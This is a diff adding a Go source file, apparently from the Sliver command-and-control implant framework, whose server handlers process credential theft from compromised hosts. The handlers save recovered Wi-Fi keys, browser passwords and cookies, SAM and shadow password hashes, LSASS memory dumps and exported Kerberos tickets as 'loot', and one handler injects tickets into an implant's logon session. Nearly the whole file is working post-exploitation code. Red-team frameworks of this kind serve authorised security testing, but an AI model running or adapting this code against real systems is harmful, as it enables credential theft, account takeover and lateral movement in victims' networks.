@@ -0,0 +1,333 @@
+package rpc
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"strings"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/server/browser"
+	"github.com/bishopfox/sliver/server/core"
+	"github.com/bishopfox/sliver/server/hashdump"
+	"github.com/bishopfox/sliver/server/kerberos"
+	"github.com/bishopfox/sliver/server/loot"
+)
+
+// CredsAll - List all credentials
+func (rpc *Server) CredsAll(ctx context.Context, _ *commonpb.Empty) (*clientpb.Credentials, error) {
+	creds, err := loot.AllCredentials()
+	if err != nil {
+		rpcLootLog.Warnf("Failed to list credentials %s", err)
+		return nil, err
+	}
+	return &clientpb.Credentials{Credentials: creds}, nil
+}
+
+// CredsAdd - Add operator supplied credentials, returns the ones that were not already stored
+func (rpc *Server) CredsAdd(ctx context.Context, req *clientpb.Credentials) (*clientpb.Credentials, error) {
+	added, err := loot.AddCredentials(req.Credentials)
+	if err != nil {
+		return nil, err
+	}
+	return &clientpb.Credentials{Credentials: added}, nil
+}
+
+// CredsRm - Remove a credential
+func (rpc *Server) CredsRm(ctx context.Context, req *clientpb.Credential) (*commonpb.Empty, error) {
+	err := loot.RemoveCredential(req.ID)
+	if err != nil {
+		return nil, err
+	}
+	return &commonpb.Empty{}, nil
+}
+
+// Wifi - List saved wireless profiles, recovered keys are saved as credentials
+func (rpc *Server) Wifi(ctx context.Context, req *sliverpb.WifiReq) (*sliverpb.Wifi, error) {
+	resp := &sliverpb.Wifi{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	creds := []*clientpb.Credential{}
+	for _, profile := range resp.Profiles {
+		creds = append(creds, &clientpb.Credential{
+			Username:  profile.SSID,
+			Plaintext: profile.Key,
+			Source:    "wifi",
+		})
+	}
+	saveCredentials(getRequestOwner(req.Request), creds)
+	return resp, nil
+}
+
+// Browser - Collect browser profiles, saved logins are decrypted into the
+// credential store and cookies are saved as loot
+func (rpc *Server) Browser(ctx context.Context, req *sliverpb.BrowserReq) (*sliverpb.Browser, error) {
+	resp := &sliverpb.Browser{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	owner := getRequestOwner(req.Request)
+	if owner == nil {
+		return nil, ErrInvalidSessionID
+	}
+	for _, profile := range resp.Profiles {
+		harvest := browser.HarvestProfile(owner.Os, profile)
+		creds := []*clientpb.Credential{}
+		for _, login := range harvest.Logins {
+			creds = append(creds, &clientpb.Credential{
+				Username:  login.Username,
+				Plaintext: login.Password,
+				Origin:    login.Origin,
+				Source:    profile.Browser,
+			})
+		}
+		saveCredentials(owner, creds)
+		profile.Logins = uint32(len(harvest.Logins))
+		profile.Cookies = uint32(len(harvest.Cookies))
+		profile.Warnings = harvest.Warnings
+		if 0 < len(harvest.Cookies) {
+			profile.CookiesLootID, err = saveCookies(owner, profile, harvest.Cookies)
+			if err != nil {
+				profile.Warnings = append(profile.Warnings, fmt.Sprintf("Failed to save cookies %s", err))
+			}
+		}
+		// The raw files stay on the server
+		profile.Files = nil
+		profile.Secret = nil
+	}
+	return resp, nil
+}
+
+// Hashdump - Collect local account hashes, the raw hives or shadow file are
+// parsed here and only the hashes are saved as credentials
+func (rpc *Server) Hashdump(ctx context.Context, req *sliverpb.HashdumpReq) (*sliverpb.Hashdump, error) {
+	resp := &sliverpb.Hashdump{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	files := resp.Files
+	resp.Files = nil
+	if resp.Response != nil && resp.Response.Err != "" {
+		return resp, nil
+	}
+	if sam, ok := files["SAM"]; ok {
+		accounts, err := hashdump.ParseSAM(sam, files["SYSTEM"])
+		if err != nil {
+			resp.Response = &commonpb.Response{Err: err.Error()}
+			return resp, nil
+		}
+		for _, account := range accounts {
+			if account.LMHash != hashdump.EmptyLMHash {
+				resp.Entries = append(resp.Entries, &sliverpb.HashdumpEntry{
+					Username: account.Username,
+					RID:      account.RID,
+					Hash:     account.LMHash,
+					HashType: "lm",
+				})
+			}
+			resp.Entries = append(resp.Entries, &sliverpb.HashdumpEntry{
+				Username: account.Username,
+				RID:      account.RID,
+				Hash:     account.NTHash,
+				HashType: "ntlm",
+			})
+		}
+	} else if shadow, ok := files["shadow"]; ok {
+		for _, entry := range hashdump.ParseShadow(shadow) {
+			resp.Entries = append(resp.Entries, &sliverpb.HashdumpEntry{
+				Username: entry.Username,
+				Hash:     entry.Hash,
+				HashType: entry.HashType,
+			})
+		}
+	}
+	creds := []*clientpb.Credential{}
+	for _, entry := range resp.Entries {
+		creds = append(creds, &clientpb.Credential{
+			Username: entry.Username,
+			Hash:     entry.Hash,
+			HashType: entry.HashType,
+			Source:   "hashdump",
+		})
+	}
+	saveCredentials(getRequestOwner(req.Request), creds)
+	return resp, nil
+}
+
+// Lsass - Dump LSASS, credentials parsed on the host are saved to the
+// credential store and a full dump is saved as loot
+func (rpc *Server) Lsass(ctx context.Context, req *sliverpb.LsassReq) (*sliverpb.Lsass, error) {
+	resp := &sliverpb.Lsass{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	creds := []*clientpb.Credential{}
+	for _, cred := range resp.Credentials {
+		if cred.LMHash != "" {
+			creds = append(creds, &clientpb.Credential{
+				Username: cred.Username,
+				Domain:   cred.Domain,
+				Hash:     cred.LMHash,
+				HashType: "lm",
+				Source:   "lsass",
+			})
+		}
+		creds = append(creds, &clientpb.Credential{
+			Username: cred.Username,
+			Domain:   cred.Domain,
+			Hash:     cred.NTHash,
+			HashType: "ntlm",
+			Source:   "lsass",
+		})
+	}
+	saveCredentials(getRequestOwner(req.Request), creds)
+
+	owner := getRequestOwner(req.Request)
+	if len(resp.Data) == 0 || owner == nil {
+		return resp, nil
+	}
+	timestamp := time.Now().Format("20060102150405")
+	meta, err := loot.AddLoot(&clientpb.Loot{
+		Type:        "procdump",
+		FileName:    fmt.Sprintf("lsass_%s_%s.dmp.gz", owner.Hostname, timestamp),
+		SessionName: owner.Name,
+		SessionID:   owner.SessionID,
+		Data:        resp.Data,
+	})
+	if err != nil {
+		rpcLog.Errorf("Failed to save lsass dump to loot %s", err)
+	} else {
+		resp.LootID = meta.ID
+		resp.Data = nil
+	}
+	return resp, nil
+}
+
+// KerberosTickets - List the cached Kerberos tickets of the implant's logon
+// session, exported tickets are saved as loot in the requested format
+func (rpc *Server) KerberosTickets(ctx context.Context, req *sliverpb.KerberosTicketsReq) (*sliverpb.KerberosTickets, error) {
+	resp := &sliverpb.KerberosTickets{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	owner := getRequestOwner(req.Request)
+	if owner == nil {
+		return resp, nil
+	}
+	format := req.Format
+	if format == "" {
+		format = "kirbi"
+	}
+	timestamp := time.Now().Format("20060102150405")
+	for index, ticket := range resp.Tickets {
+		if len(ticket.Kirbi) == 0 {
+			continue
+		}
+		data, err := kerberos.Convert(ticket.Kirbi, format)
+		if err != nil {
+			rpcLog.Errorf("Failed to convert ticket for %s %s", ticket.ServerName, err)
+			continue
+		}
+		meta, err := loot.AddLoot(&clientpb.Loot{
+			Name:        fmt.Sprintf("%s@%s -> %s", ticket.ClientName, ticket.ClientRealm, ticket.ServerName),
+			Type:        "kerberos",
+			FileName:    fmt.Sprintf("%d_%s_%s_%s.%s", index, ticket.ClientName, ticketFileName(ticket.ServerName), timestamp, format),
+			SessionName: owner.Name,
+			SessionID:   owner.SessionID,
+			Data:        data,
+		})
+		if err != nil {
+			rpcLog.Errorf("Failed to save ticket to loot %s", err)
+			continue
+		}
+		ticket.LootID = meta.ID
+		ticket.Kirbi = nil
+	}
+	return resp, nil
+}
+
+// KerberosInject - Import a kirbi or ccache ticket into the implant's logon session
+func (rpc *Server) KerberosInject(ctx context.Context, req *sliverpb.KerberosInjectReq) (*sliverpb.KerberosInject, error) {
+	if kerberos.IsCCache(req.Ticket) {
+		kirbi, err := kerberos.Convert(req.Ticket, "kirbi")
+		if err != nil {
+			return nil, err
+		}
+		req.Ticket = kirbi
+	} else if _, err := kerberos.ParseKirbi(req.Ticket); err != nil {
+		return nil, err
+	}
+	resp := &sliverpb.KerberosInject{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	return resp, nil
+}
+
+// ticketFileName - krbtgt/CORP.LOCAL -> krbtgt_CORP.LOCAL
+func ticketFileName(serverName string) string {
+	return strings.NewReplacer("/", "_", "\\", "_", ":", "_", "@", "_").Replace(serverName)
+}
+
+func saveCookies(owner *core.Owner, profile *sliverpb.BrowserProfile, cookies []browser.Cookie) (string, error) {
+	data, err := json.MarshalIndent(cookies, "", "  ")
+	if err != nil {
+		return "", err
+	}
+	timestamp := time.Now().Format("20060102150405")
+	meta, err := loot.AddLoot(&clientpb.Loot{
+		Name:        fmt.Sprintf("%s cookies (%s)", profile.Browser, profile.Name),
+		Type:        "cookies",
+		FileName:    fmt.Sprintf("cookies_%s_%s_%s_%s.json", profile.Browser, owner.Name, owner.Key(), timestamp),
+		SessionName: owner.Name,
+		SessionID:   owner.SessionID,
+		Data:        data,
+	})
+	if err != nil {
+		return "", err
+	}
+	return meta.ID, nil
+}
+
+// saveCredentials - Save credentials recovered from a session or beacon
+func saveCredentials(owner *core.Owner, creds []*clientpb.Credential) {
+	if owner != nil {
+		for _, cred := range creds {
+			cred.Host = owner.Hostname
+			cred.SessionName = owner.Name
+			cred.SessionID = owner.SessionID
+		}
+	}
+	_, err := loot.AddCredentials(creds)
+	if err != nil {
+		rpcLog.Errorf("Failed to save credentials %s", err)
+	}
+}